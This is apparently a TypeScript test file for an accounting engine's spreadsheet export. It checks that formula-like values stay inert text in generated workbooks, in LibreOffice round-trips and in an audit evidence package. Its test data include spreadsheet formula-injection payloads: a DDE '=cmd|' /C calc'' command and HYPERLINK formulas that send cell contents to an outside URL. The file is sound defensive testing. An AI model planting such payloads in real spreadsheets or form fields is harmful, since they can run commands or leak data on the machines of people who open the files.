import { readFileSync, writeFileSync } from "node:fs";
import { readdir } from "node:fs/promises";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { exportEvidence } from "#engine/audit/exportEvidence.ts";
import { writeWorkbook } from "#engine/excel/writeForm.ts";
import { writeTables } from "#engine/excel/writeTables.ts";
import { updateRow } from "#engine/store/rows.ts";
import { buildList } from "#shared/forms/builders/list.ts";
import { text } from "#shared/forms/values.ts";
import { testFolder } from "#test/engine/store/testLedger.ts";
import { convertByLibreOffice, csvOfEachSheet, hasLibreOffice } from "#test/engine/support/libreOffice.ts";
import { sampleDesk } from "#test/engine/support/sampleDesk.ts";
import { unzipBytes } from "./openWorkbook.ts";
import { readAll } from "./rawWorkbook.ts";

/** What a spreadsheet would run if it stood in a cell that is a formula, in a csv, or in one typed by hand. */
const runnable = [
  "=cmd|' /C calc'!A0",
  "=1+1",
  "+1+1",
  "-2+3",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A2)",
  '=HYPERLINK("http://example.invalid/?"&A1,"查看")',
  "\t=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "'=1+1",
  "_x003D_1+1",
  "{=1+1}",
  `=${"1+".repeat(150)}1`,
  "22312000000000000017",
  "00123",
  "1E5",
  "2022-1-2",
];

const table = () => writeTables([{ name: "表", titles: ["内容"], rows: runnable.map((one) => [one]) }]);
const form = () =>
  writeWorkbook(
    [
      buildList({
        title: "表",
        columns: [{ title: "内容", width: 40, kind: "text" }],
        rows: runnable.map((one) => [text(one)]),
      }),
    ],
    { writtenAt: "2022-06-30T08:15:30.000Z", author: "=1+1" },
  );
const writers = [
  ["tables", table],
  ["forms", form],
] as const;

describe.each(writers)("text that could be run, in %s", (_, write) => {
  it("is the same text to our own reader and another's, and stays text when somebody edits its cell", async () => {
    const path = join(testFolder(), "表.xlsx");
    writeFileSync(path, await write());
    const [sheet] = await readAll(path);
    const cells = sheet?.rows.flatMap(({ cells: all }) => all.filter((cell) => cell !== undefined)) ?? [];
    expect(cells.map(({ text: read }) => read)).toEqual(expect.arrayContaining([...runnable]));
    expect(new Set(cells.map(({ kind }) => kind))).toEqual(new Set(["text"]));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const found: [unknown, ExcelJS.ValueType, string][] = [];
    workbook.worksheets[0]?.eachRow((row) =>
      row.eachCell(({ value, type, numFmt }) => void found.push([value, type, numFmt])),
    );
    for (const one of runnable.filter((wanted) => !/^[{_]/.test(wanted)))
      expect(found).toContainEqual([one, ExcelJS.ValueType.String, "@"]);
    expect(found.every(([, type]) => type === ExcelJS.ValueType.String)).toBe(true);
    const parts = [...unzipBytes(readFileSync(path))];
    expect(
      parts.filter(([name, part]) => /sheet\d/.test(name) && /<f[ >]/.test(part.toString("utf8"))),
    ).toEqual([]);
    expect(parts.some(([name]) => /external|hyperlink/i.test(name))).toBe(false);
  });

  it.skipIf(!hasLibreOffice)("is shown and not run by LibreOffice", { timeout: 120_000 }, async () => {
    const folder = testFolder();
    const path = join(folder, "表.xlsx");
    writeFileSync(path, await write());
    await convertByLibreOffice(path, csvOfEachSheet, folder);
    const name = (await readdir(folder)).find((file) => file.endsWith(".csv")) ?? "";
    const shown = readFileSync(join(folder, name), "utf8");
    for (const one of runnable) expect(shown).toContain(one.trim().replaceAll('"', '""'));
    // Saved again by it, there is still no formula.
    const again = testFolder();
    await convertByLibreOffice(path, "xlsx", again);
    const [sheet] = await readAll(join(again, "表.xlsx"));
    const texts = sheet?.rows.flatMap(({ cells }) => cells.map((cell) => cell?.text ?? "")) ?? [];
    expect(texts).toEqual(expect.arrayContaining(runnable.filter((one) => !one.startsWith("\t"))));
    const saved = [...unzipBytes(readFileSync(join(again, "表.xlsx")))];
    expect(saved.some(([part, xml]) => /sheet\d/.test(part) && xml.toString("utf8").includes("<f"))).toBe(
      false,
    );
  });
});

it("the workbook in a package for the audit has it as text too", async () => {
  const desk = await sampleDesk();
  const context = await desk.context();
  const payment = await desk.ledger.read
    .selectFrom("payment")
    .selectAll()
    .where("voidedAt", "is", null)
    .where("state", "=", "draft")
    .executeTakeFirstOrThrow();
  const purpose = '=HYPERLINK("http://example.invalid","用途")';
  await context.write("改用途", (tx) => updateRow(tx, "payment", payment.id, { purpose }));
  const target = join(testFolder(), "审计.zip");
  await exportEvidence(await desk.context(), { id: payment.id, path: target });
  const [, bytes] = [...unzipBytes(readFileSync(target))].find(([name]) => name.endsWith(".xlsx")) ?? [];
  const path = join(testFolder(), "审计.xlsx");
  writeFileSync(path, bytes ?? Buffer.alloc(0));
  const cells = (await readAll(path)).flatMap(({ rows }) => rows.flatMap((row) => row.cells));
  expect(cells.filter((cell) => cell?.text === purpose).map((cell) => cell?.kind)).toContain("text");
});
